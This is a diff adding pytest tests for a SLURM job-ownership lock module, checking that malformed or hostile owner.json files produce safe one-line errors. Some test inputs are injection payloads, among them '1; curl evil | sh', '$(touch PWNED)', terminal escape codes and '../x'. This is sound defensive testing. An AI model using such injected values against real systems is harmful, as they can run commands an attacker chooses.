@@ -10,12 +10,14 @@ from pathlib import Path
 
 import pytest
 
+from tests.support.others import locked_by_nobody, needs_root, shared_folder
 from vssl_dist.config import ConfigError
 from vssl_dist.jobs import owner
 
 CLAIM = """
 import sys, time
 from pathlib import Path
+from tests.support.others import locked_by_nobody, needs_root, shared_folder
 from vssl_dist.config import ConfigError
 from vssl_dist.jobs import owner
 try:
@@ -108,3 +110,73 @@ def test_a_copy_of_a_run_that_is_being_written_is_free_and_the_original_is_not(
     for folder, job in ((moved, "4711"), (branch, "4712")):
         with pytest.raises(ConfigError, match=f"SLURM job {job}"):
             owner.check_free(folder, alive)
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"job": "1; curl evil | sh"},
+        {"job": "$(touch PWNED)"},
+        {"job": "\x1b[2J"},
+        {"job": "--all"},
+        {"job": 7},
+        {"pid": "x"},
+        {"pid": -1},
+        {"pid": 10**30},
+        {"pid": True},
+        {"host": "a\nremove everything"},
+        {"host": "\x1b]0;x\x07"},
+        {"host": None},
+        {"started": "now"},
+        {"run": "../x"},
+        {"more": "\x1b[2J"},
+    ],
+    ids=str,
+)
+def test_an_owner_that_is_none_is_one_line_and_no_command_to_copy(
+    tmp_path: Path, changes: dict[str, object]
+) -> None:
+    text = {"job": None, "host": "here", "pid": 1, "started": 0.0, "run": ""} | changes
+    (tmp_path / "owner.json").write_text(json.dumps(text))
+    with pytest.raises(ConfigError, match=r"owner.json cannot be read \(.*\): remove it$") as told:
+        owner.claim(tmp_path, alive)
+    assert str(told.value).isprintable()
+    assert "evil" not in str(told.value)
+
+
+@pytest.mark.parametrize("text", ["[" * 20_000, '{"job":' * 20_000, "[]", "", "7", " " * 10**6])
+def test_an_owner_of_any_depth_and_size_is_one_line(tmp_path: Path, text: str) -> None:
+    (tmp_path / "owner.json").write_text(text)
+    with pytest.raises(ConfigError, match=r"cannot be read \(.*\): remove it$"):
+        owner.check_free(tmp_path, alive)
+
+
+def test_a_pipe_for_an_owner_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "owner.json")
+    with pytest.raises(ConfigError, match="no regular file"):
+        owner.check_free(tmp_path, alive)
+
+
+@pytest.mark.parametrize("job", ["4711", "123_4", "123+0"])
+def test_every_way_in_which_slurm_names_jobs_is_an_owner(tmp_path: Path, job: str) -> None:
+    text = {"job": job, "host": "a-b.c_d", "pid": 1, "started": 0}  # of before there was `run`
+    (tmp_path / "owner.json").write_text(json.dumps(text))
+    with pytest.raises(ConfigError, match=r"scancel " + job.replace("+", r"\+")):
+        owner.check_free(tmp_path, alive)
+
+
+@needs_root
+def test_a_claim_that_another_user_s_lock_delays_ends_and_names_him(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(owner, "_CLAIM_WITHIN_S", 0.2)
+    with shared_folder() as run:
+        (run / ".owner.lock").touch(mode=0o644)
+        with (
+            locked_by_nobody(run / ".owner.lock") as pid,
+            pytest.raises(ConfigError, match=f"claimed by process {pid} of nobody"),
+        ):
+            owner.claim(run, dead)
+        owner.claim(run, dead)
+        with pytest.raises(AssertionError), locked_by_nobody(run / ".owner.lock"):
+            pass  # it is closed to him from now on
